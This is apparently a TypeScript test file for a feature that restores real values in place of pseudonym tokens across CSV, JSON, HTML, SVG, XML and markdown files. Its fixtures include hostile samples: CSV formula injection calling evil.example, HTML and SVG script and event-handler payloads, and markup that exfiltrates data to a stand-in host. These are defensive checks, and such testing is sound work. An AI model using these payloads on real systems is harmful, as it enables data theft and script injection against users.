import { describe, expect, test } from "vitest";
import { type Unmasked, unmaskFile } from "../../../lib/browser/unmask/file.ts";
import { Mapping } from "../../../lib/policy/mask.ts";
import { rewritable } from "../../../lib/policy/unmask/kinds.ts";
import { mapping, pairs } from "../../support/mapping.ts";

const bytes = (text: string) => new TextEncoder().encode(text);
const read = ({ type, bytes: content }: Unmasked) => ({ type, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(content) });
const unmasked = async (name: string, text: string) => read(await unmaskFile(name, bytes(text), mapping));

/** A reader of CSV that is not the one under test: by the letter, for commas or another separator. */
function rowsOf(text: string, separator = ","): string[][] {
  const rows: string[][] = [];
  let [row, cell, quoted]: [string[], string, boolean] = [[], "", false];
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? "";
    if (quoted && sign === '"' && text[at + 1] === '"') cell += text[++at] ?? "";
    else if (sign === '"') quoted = !quoted;
    else if (!quoted && (sign === separator || sign === "\n")) {
      row.push(cell);
      cell = "";
      if (sign === "\n") rows.push(row);
      if (sign === "\n") row = [];
    } else if (quoted || sign !== "\r") cell += sign;
  }
  return rows;
}

describe("delimited text", () => {
  test.each([[","], [";"], ["\t"], ["|"]])("every value stays one field, whatever it holds, separated by %j", async (separator) => {
    const source = Object.keys(pairs).map((token, at) => ["x", token, `"say ""${token}"""`, at].join(separator));
    const { type, text } = await unmasked(
      separator === "\t" ? "a.tsv" : "a.csv",
      `${["k", "who", "said", "n"].join(separator)}\r\n${source.join("\r\n")}\r\n`,
    );
    expect(type).toBe("unmasked");
    const rows = rowsOf(text, separator);
    expect(rows).toHaveLength(source.length + 1);
    expect(rows.map((row) => row.length)).toEqual(rows.map(() => 4));
    const formula = (value: string) => (/^[=+]/.test(value) ? `'${value}` : value);
    expect(rows.slice(1).map((row) => row[1])).toEqual(Object.values(pairs).map(formula));
    expect(rows.slice(1).map((row) => row[2])).toEqual(Object.values(pairs).map((value) => `say "${value}"`));
  });

  test("once values are in it no field acts as a formula, also none that code has written to send its neighbours away", async () => {
    const { text } = await unmasked("a.csv", 'a,b\nperson_HHHH0005,"=WEBSERVICE(""http://evil.example/?""&A2)"\n-2,+3\n');
    expect(text).toBe('a,b\n"\'=HYPERLINK(""http://evil.example"")","\'=WEBSERVICE(""http://evil.example/?""&A2)"\n-2,+3\n');
  });

  test("what has no token stays to the letter: marks, line ends, quotes that are not needed, odd quotes", async () => {
    const odd = '\ufeff"a";b"c\r"x ""y""";\n\n;"open';
    expect(await unmasked("a.csv", odd)).toEqual({ type: "as-is", text: odd });
    const { text } = await unmasked("a.csv", '\ufeff"a";b\r\n"person_7F3K2Q9M";1,5\r\n"x";"2"');
    expect(text).toBe('\ufeff"a";b\r\n"Ann Lee";1,5\r\n"x";"2"');
  });
});

describe("JSON", () => {
  test("is read back as the same with values in it, keys too", async () => {
    const source = JSON.stringify(
      Object.keys(pairs).map((token) => ({ [token]: token, text: `of "${token}"\n` })),
      null,
      2,
    );
    const { text } = await unmasked("a.json", source);
    expect(JSON.parse(text)).toEqual(Object.values(pairs).map((value) => ({ [value]: value, text: `of "${value}"\n` })));
  });

  test("whole numbers become what they stand for, the rest stays to the letter, a line stays a line", async () => {
    const { text } = await unmasked(
      "a.jsonl",
      '{"id": 987654321098765, "n": 1.50}\n{"id":912345678901234,"to":912345678901234.0,"o":9123456789012345}\n',
    );
    expect(text).toBe('{"id": 1001, "n": 1.50}\n{"id":"00412","to":"00412","o":9123456789012345}\n');
  });
});

describe("markup", () => {
  test("HTML: values are text, in text and in attributes that people read; the page may load nothing", async () => {
    const source = `<!doctype html>\n<p title="person_HHHH0002">person_HHHH0002 <a href="https://e.example/?q=person_7F3K2Q9M">person_7F3K2Q9M</a></p>`;
    const { type, text } = await unmasked("a.html", source);
    expect(type).toBe("unmasked");
    expect(text).toMatch(/^<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
    const escaped = "&lt;img src=&quot;http://evil.example/q&quot; onerror=&quot;globalThis.owned=1&quot;&gt;";
    expect(text.split("\n")[1]).toBe(`<p title="${escaped}">${escaped} <a href="https://e.example/?q=person_7F3K2Q9M">Ann Lee</a></p>`);
  });

  test.each([
    "<script>send('person_7F3K2Q9M')</script>",
    "<p onclick='x()'>person_7F3K2Q9M",
    "<img src=x onerror=x()>person_7F3K2Q9M",
    "<svg/onload=x()>person_7F3K2Q9M",
    '<a href="java&#115;cript:x" href="javascript:x()">person_7F3K2Q9M</a>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/?person_7F3K2Q9M">',
    "<iframe src=x></iframe>person_7F3K2Q9M",
    '<form action="http://evil.example"><textarea>person_7F3K2Q9M</textarea></form>',
  ])("HTML that could send values away when it is opened keeps its tokens: %s", async (source) => {
    expect(await unmasked("a.html", source)).toEqual({ type: "pseudonyms", text: source });
  });

  test("SVG: values are text; what a picture shows stays, ids and styles too", async () => {
    const source = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><style>*{fill:url(#a)}</style><use xlink:href="#person_7F3K2Q9M"/><text id="person_7F3K2Q9M">person_2B4C6D8F</text><!-- person_HHHH0009 --></svg>`;
    const { type, text } = await unmasked("a.svg", source);
    expect(type).toBe("unmasked");
    expect(text).toContain('<use xlink:href="#person_7F3K2Q9M"/><text id="person_7F3K2Q9M">Zoë O&#39;Neil &amp; Søns &lt;hr&gt;</text>');
    expect(text.match(/-->/g)).toHaveLength(1);
  });

  test("a drawing of matplotlib's, with its addresses of vocabularies and its marks, is not taken for one that reaches outside", async () => {
    const source = `<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="784pt" viewBox="0 0 784 312" xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work>
  <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:title>Matplotlib v3.10.8, https://matplotlib.org/</dc:title>
 </cc:Work></rdf:RDF></metadata>
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>
 <path d="M 156 260" clip-path="url(#pc43bc05804)" style="fill: #1f77b4"/><use xlink:href="#ma4356f2214" x="156"/>
 <image xlink:href="data:image/png;base64,AA=="/>
 <text style="font-family: 'DejaVu Sans', sans-serif; text-anchor: middle" transform="rotate(-0 156 286)">person_7F3K2Q9M</text>
</svg>`;
    expect(await unmasked("a.svg", source)).toEqual({ type: "unmasked", text: source.replace("person_7F3K2Q9M", "Ann Lee") });
  });

  test.each([
    '<image href="http://evil.example/a.png"/>',
    "<style>@import url(http://evil.example)</style>",
    "<style>[title^=A]{fill:url(http://evil.example/A)}</style>",
    "<foreignObject/>",
    "<script/>",
    "<animate onbegin='x()'/>",
  ])("SVG that reaches outside of itself keeps its tokens: %s", async (inner) => {
    expect((await unmasked("a.svg", `<svg>${inner}<text>person_7F3K2Q9M</text></svg>`)).type).toBe("pseudonyms");
  });

  test("XML: text, attributes people do not read, CDATA", async () => {
    const { text } = await unmasked("a.xml", '<a id="person_7F3K2Q9M"><b>person_2B4C6D8F</b><![CDATA[person_HHHH0009]]></a>');
    expect(text).toContain('<a id="person_7F3K2Q9M"><b>Zoë O&#39;Neil &amp; Søns &lt;hr&gt;</b><![CDATA[]] > --> $');
    expect(text.match(/\]\]>/g)).toHaveLength(1);
  });
});

describe("the rest", () => {
  test("markdown: a value shows letter by letter; an address keeps its token", async () => {
    const { text } = await unmasked("a.md", "# person_HHHH0001\n`person_HHHH0007` [x](http://e.example/person_7F3K2Q9M) person_HHHH0003\n");
    expect(text).toBe(
      "# \\!\\[x\\](http://evil.example/p)\n`**bold** _under_ 'code' | cell` [x](http://e.example/person_7F3K2Q9M) \\[a\\](http://evil.example/r)\n",
    );
  });

  test.each([
    '<img src="//evil.example/person_7F3K2Q9M">',
    "![x](//evil.example/person_7F3K2Q9M)",
    "![x](<//evil.example/a person_7F3K2Q9M>)",
    "![x][r]\n\n[r]: //evil.example/person_7F3K2Q9M",
    "<style>a{background:url(//evil.example)}</style><a title='person_7F3K2Q9M'>",
    "https://evil.example/?q=person_7F3K2Q9M",
  ])("markdown: what may be asked for when the text is opened keeps its token: %s", async (source) => {
    expect((await unmasked("a.md", `${source}\nand person_7F3K2Q9M`)).text).toBe(`${source}\nand Ann Lee`);
  });

  test("plain text holds values as they are", async () => {
    expect((await unmasked("a.txt", "to person_HHHH0002")).text).toBe(`to ${pairs.person_HHHH0002}`);
  });

  test("what cannot be rewritten is handed over as it is and says so", async () => {
    for (const name of ["a.png", "a.pdf", "a.parquet", "a.sqlite", "a.pkl", "a.ipynb", "a.xlsm", "noending", "broken.xlsx"])
      expect(await unmasked(name, "person_7F3K2Q9M")).toEqual({ type: "pseudonyms", text: "person_7F3K2Q9M" });
    expect(read(await unmaskFile("a.csv", Uint8Array.of(0xff, 0xfe, 0x41), mapping)).type).toBe("pseudonyms");
    expect([rewritable("a.CSV"), rewritable("a.pptx"), rewritable("a.png")]).toEqual([true, true, false]);
  });

  test("without a mapping nothing is touched", async () => {
    const nothing = new Mapping([]);
    for (const name of ["a.png", "a.csv", "a.html"]) expect((await unmaskFile(name, bytes("person_7F3K2Q9M"), nothing)).type).toBe("as-is");
  });
});
